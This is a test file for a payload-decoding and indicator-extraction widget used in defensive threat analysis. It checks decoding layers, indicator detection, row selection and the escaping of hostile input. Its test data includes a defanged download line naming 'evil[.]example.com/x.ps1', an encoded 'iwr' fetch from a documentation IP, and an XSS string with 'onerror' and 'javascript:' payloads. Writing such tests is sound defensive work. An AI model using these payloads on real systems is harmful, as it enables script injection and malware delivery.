// The whole view under Node: the real engine (on the page, as there is no Worker), the
// fake DOM that refuses markup and host.js's model. Decoding, the tree, the detail pane,
// the indicators trait, selection and linking, errors, hostile text.
import { test, beforeEach } from "node:test";
import assert from "node:assert/strict";
import { installDom, elementsOf } from "../fake-dom.mjs";
import { createModel } from "../../host.js";
import { provideEngine } from "../../src/common/engine.js";
import { joinGroup } from "../../src/common/link.js";
import payload from "../../src/payload.js";
import { BASE64MSG, encoded, engine } from "./engine.mjs";

provideEngine(engine);
beforeEach(() => installDom());

async function until(check, what, ms = 10000) {
  const t0 = Date.now();
  while (!check()) {
    if (Date.now() - t0 > ms) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 5));
  }
}

async function mount(traits) {
  const el = document.createElement("div");
  document.body.appendChild(el);
  const model = createModel({ selected_indices: [], group: "", ...traits });
  const destroy = payload.render({ model, el });
  const root = el.querySelector("div.hk-pl");
  await until(() => root.dataset.ready === "1" && (root.dataset.indicators !== undefined || root.querySelector("div.hk-error").textContent), "the view");
  return { el, model, root, destroy, text: (sel) => root.querySelectorAll(sel).map((n) => n.textContent) };
}

const table = (dv) => engine.arrow.tableFromIPC(new Uint8Array(dv.buffer, dv.byteOffset, dv.byteLength));

test("one text: the tree, the detail pane, result and indicators", async () => {
  const { model, root, destroy, text } = await mount({ text: BASE64MSG });
  assert.equal(table(model.get("result")).numRows, 16, "result: the decoder's records");
  // The payload's only hex run of digest length is a base64 line of zero bytes: no digest.
  const iocs = table(model.get("indicators"));
  assert.equal(iocs.numRows, 0);
  assert.equal(root.dataset.indicators, "0");
  const labels = text("span.hk-label");
  assert.equal(labels[0], "Payload (6684 characters)");
  assert.ok(labels.includes("1.1 dllenc.txt — utf-8 text, 246 B"));
  assert.equal(root.querySelector("div.hk-text").textContent, BASE64MSG);
  const runs = root.querySelector("div.hk-text").querySelectorAll("span.hk-run");
  assert.deepEqual([...new Set(runs.map((r) => r.title))], ["Encoded run: open layer 1", "Encoded run: open layer 2"], "the two archives' runs");
  assert.equal(runs.length, 3, "the tar's run crosses a block boundary: a span in each block");
  assert.match(text("span.hk-status")[0], /^16 layers · 0 indicators$/);
  assert.equal(text("div.hk-title")[0], "Decoded payload");
  // Focus the tar archive: binary, shown in hex.
  const tree = root.querySelector("div.hk-tree");
  tree.dispatchEvent(Object.assign(new Event("keydown"), { key: "ArrowDown" }));
  assert.ok(root.querySelector("div.hk-hex"), "binary layers get a hex view");
  assert.ok(text("span.hk-v").includes("tar"));
  // A text selection is not an input row selection.
  assert.deepEqual(model.get("selected_indices"), []);
  destroy();
  assert.equal(root.parentNode, null);
});

test("a run click opens its layer; the cap and Show more", async () => {
  const inner = `download hxxp://evil[.]example.com/x.ps1 ${"filler ".repeat(400)} tail 203.0.113.9`;
  const { root, destroy } = await mount({ text: `start ${encoded(inner)} end`, max_chars: 1024 });
  const marks = (cls) => root.querySelector("div.hk-text").querySelectorAll(cls);
  await until(() => marks("span.hk-run").length === 1, "run");
  marks("span.hk-run")[0].dispatchEvent(new Event("click"));
  const pre = root.querySelector("div.hk-text");
  assert.ok(pre.textContent.startsWith("download hxxp://evil[.]example.com"));
  await until(() => marks("span.hk-ioc").length >= 2, "indicator marks");
  assert.equal(marks("span.hk-ioc")[0].textContent, "hxxp://evil[.]example.com/x.ps1");
  const more = root.querySelector("button.hk-more");
  assert.match(more.textContent, /^Show more/);
  assert.ok(!root.querySelector("div.hk-text").textContent.includes("tail 203"));
  more.dispatchEvent(new Event("click"));
  assert.equal(root.querySelector("div.hk-text").textContent.length, 2048 + root.querySelector("button.hk-more").textContent.length);
  root.querySelector("button.hk-more").dispatchEvent(new Event("click"));
  assert.equal(root.querySelector("button.hk-more"), null, "all shown");
  assert.ok(root.querySelector("div.hk-text").textContent.endsWith("tail 203.0.113.9"));
  destroy();
});

test("a table column: rows most layers first, selection, linked views", async () => {
  const csv = `CommandLine,Host\n"cmd /c dir",a\n"${encoded("iwr http://198.51.100.4/a")}",b\n"${encoded("x = 'admin@corp.example.org'; y = 'QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB'")}",c\n`;
  const other = createModel({ group: "g" });
  const heard = [];
  const peer = joinGroup(other, (rows) => heard.push(rows));
  const { model, root, destroy, text } = await mount({ data: csv, column: "CommandLine", group: "g" });
  const labels = text("span.hk-label");
  assert.ok(labels[0].startsWith("Row 2: powershell -enc"), "the row with most layers first");
  assert.ok(labels.some((l) => l.startsWith("Row 1: ")));
  assert.ok(!labels.some((l) => l.startsWith("Row 0")), "rows that decoded to nothing are not listed");
  assert.match(text("span.hk-status")[0], /^2 rows decoded · /);
  const rows = table(model.get("indicators")).toArray().map((r) => [r.SourceIndex, r.IoCType]);
  assert.ok(rows.some(([row, type]) => row === 1 && type === "url"));
  assert.ok(rows.some(([row, type]) => row === 2 && type === "email"));
  assert.deepEqual([...new Set(Array.from(table(model.get("result")).getChild("src_index").toArray(), Number))].sort(), [1, 2]);
  // A click selects the input row and tells the group.
  const row1 = root.querySelectorAll("div.hk-node").find((n) => n.querySelector("span.hk-label").textContent.startsWith("Row 1"));
  row1.dispatchEvent(new Event("click"));
  assert.deepEqual(model.get("selected_indices"), [1]);
  assert.deepEqual(heard.at(-1), [1]);
  row1.parentNode.children[0].dispatchEvent(Object.assign(new Event("click"), { ctrlKey: true }));
  assert.deepEqual(model.get("selected_indices"), [1, 2]);
  root.querySelector("div.hk-tree").dispatchEvent(Object.assign(new Event("keydown"), { key: "Escape" }));
  assert.deepEqual(model.get("selected_indices"), []);
  // Another view's selection marks the row.
  peer.publish([2]);
  assert.ok(root.querySelectorAll("div.hk-node.hk-linked").some((n) => n.textContent.startsWith("▾Row 2")));
  // An indicator row opens its layer.
  const grid = root.querySelector("div.hk-grid");
  grid.dispatchEvent(Object.assign(new Event("keydown"), { key: "ArrowDown" }));
  assert.ok(root.querySelector("div.hk-text").querySelector("span.hk-flash"), "the indicator is flashed in its layer");
  destroy();
  peer.leave();
});

test("option changes: indicator types rescan, a bad column is an error line", async () => {
  const { model, root, destroy } = await mount({ text: "see 8.8.8.8 and evil.example.com" });
  assert.equal(root.dataset.indicators, "2");
  model.set("ioc_types", ["ipv4"]);
  await until(() => root.dataset.indicators === "1", "rescan");
  model.set("data", "a,b\n1,2\n");
  model.set("column", "nope");
  await until(() => root.querySelector("div.hk-error").textContent, "error");
  assert.equal(root.querySelector("div.hk-error").textContent, "invalid_option: column not in the data: nope");
  assert.equal(root.dataset.ready, "1");
  model.set("column", null);
  await until(() => root.querySelector("div.hk-error").textContent.includes("several columns"), "column needed");
  destroy();
});

test("hostile text in every slot stays text", async () => {
  const evil = "<img src=x onerror=alert(1)></script>javascript:alert(2) red;background:url(http://127.0.0.1:9/x)";
  const quote = (v) => `"${v.replace(/"/g, '""')}"`;
  // The column's name too.
  const csv = `${quote(evil)}\n${quote(`${evil} ${encoded(`${evil} http://198.51.100.4/${evil}`)}`)}\n`;
  const { root, destroy, text } = await mount({ data: csv, title: evil });
  assert.equal(text("div.hk-title")[0], evil);
  assert.ok(text("span.hk-label").some((l) => l.includes("<img src=x")));
  assert.ok(root.querySelector("div.hk-text").textContent.includes(evil));
  const tags = new Set(elementsOf(root).map((n) => n.tagName));
  for (const t of tags) assert.ok(["DIV", "SPAN", "PRE", "BUTTON", "INPUT", "STYLE"].includes(t), `element ${t}`);
  for (const n of elementsOf(root)) {
    for (const [k, v] of n.attributes) assert.ok(!/^on/i.test(k), `attribute ${k}=${v}`);
    for (const v of Object.values(n.style)) assert.ok(!String(v).includes("url("), "no style from data");
  }
  destroy();
});

test("new data draws again; the cap and the theme follow their traits; nothing decoded says so", async () => {
  const { model, root, destroy } = await mount({ text: `x ${encoded("a".repeat(3000))}`, max_chars: 1024 });
  const shown = () => root.querySelector("div.hk-text").textContent;
  root.querySelector("div.hk-tree").dispatchEvent(Object.assign(new Event("keydown"), { key: "ArrowDown" }));
  assert.ok(shown().startsWith("a".repeat(1024) + "Show more"));
  model.set("max_chars", 2048);
  assert.ok(shown().startsWith("a".repeat(2048) + "Show more"));
  assert.ok(!root.classList.contains("hk-dark"));
  model.set("theme", "dark");
  assert.ok(root.classList.contains("hk-dark"));
  model.set("text", "no payload here");
  assert.equal(root.dataset.ready, "0", "drawing again");
  await until(() => root.dataset.indicators !== undefined && root.dataset.ready === "1", "redraw");
  assert.equal(engine.arrow.tableFromIPC(new Uint8Array(model.get("result").buffer)).numRows, 0);
  model.set("data", "CommandLine\nnothing\nhere\n");
  await until(() => root.querySelector("div.hk-note")?.textContent === "No row of the column decoded to anything.", "the note");
  destroy();
});
